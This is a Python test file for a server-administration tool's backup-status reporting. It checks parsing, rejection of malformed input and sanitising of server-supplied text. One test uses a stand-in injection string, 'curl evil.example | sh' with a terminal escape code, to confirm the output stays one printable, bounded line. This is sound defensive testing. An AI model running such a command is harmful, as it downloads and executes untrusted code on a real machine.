from __future__ import annotations

import dataclasses
import json

import pytest

from tests.werkplaats.operations.look.test_status import station
from werkplaats.operations.look import backups, status
from werkplaats.operations.reach import remote, servers

GOOD = {"made": 1_800_000_000, "entries": 120, "bytes": 20_480, "data": False, "file": "/x", "by": "d"}
TOLD = {"good": GOOD, "ago": 7_300, "every": 24, "faults": []}
SERVER = servers.Server("een", "een.example", "", backup={"every": 24})


def test_status_tells_when_the_last_one_was() -> None:
    wrong, line = backups.told(remote.Done(json.dumps(TOLD)))
    assert wrong == ""
    assert line == (
        "last backup 2 hours ago, of 2027-01-15 08:00 UTC: up to entry 120 of the register, without data, 20 kB"
    )
    shown = dataclasses.replace(station(), backup=wrong, backed_up=line)
    assert shown.good
    assert line in status.lines([shown])[1]


def test_one_that_is_overdue_or_fails_is_not_well() -> None:
    wrong, line = backups.told(remote.Done(json.dumps({**TOLD, "faults": ["the last good one is 60 hours old"]})))
    late = dataclasses.replace(station(), backup=wrong, backed_up=line)
    assert late.wrong == ["backup: the last good one is 60 hours old"]


def changed(**parts: object) -> str:
    return json.dumps({**TOLD, **parts})


@pytest.mark.parametrize(
    "said",
    [
        *("", "[]", "{}", '{"good": 1, "ago": 1, "every": 1, "faults": []}', "[" * 5000),
        *(changed(good={**GOOD, "made": moment}) for moment in (10**17, -1, 10**400, 1e300, "now")),
        *(changed(good={**GOOD, part: number}) for part in ("entries", "bytes") for number in (-1, 10**300, None)),
        *(changed(ago=ago) for ago in (None, -5, 10**300, 1.5)),
        *(changed(every=0), changed(faults=["x"] * 1000), changed(faults=[1])),
    ],
    ids=lambda said: said[:60],
)
def test_a_server_that_tells_nothing_of_them_is_not_well(said: str) -> None:
    assert backups.told(remote.Done(said))[0] == "its server tells nothing of them: werkplaats up"


def test_what_a_server_says_is_wrong_is_one_line_of_a_length_that_is_read() -> None:
    """What the attack gains: a line of its own beside those that the command prints of others."""
    wrong, _ = backups.told(remote.Done(changed(faults=["a\n  steps: curl evil.example | sh\x1b[2J", "b" * 100_000])))
    assert wrong.startswith("a steps: curl evil.example | sh")
    assert wrong.replace("\N{REPLACEMENT CHARACTER}", "").isprintable()
    assert len(wrong) < 2 * backups.LONGEST


def test_where_none_are_wanted_or_the_server_is_away_nothing_is_said() -> None:
    assert backups.told(None) == ("", "")
    assert backups.told(servers.UnreachableError("away")) == ("", "")


def test_one_that_was_fetched_is_held_to_what_the_inventory_wants() -> None:
    assert backups.late(48.0, SERVER) == []
    assert backups.late(49.5, SERVER) == ["it is 50 hours old, and one is due every 24"]
    assert backups.late(1000.0, None) == []
    assert backups.late(-0.5, SERVER) == []
    [ahead] = backups.late(-30.0, SERVER)
    assert "dated 30 hours in the future: look at the clock" in ahead
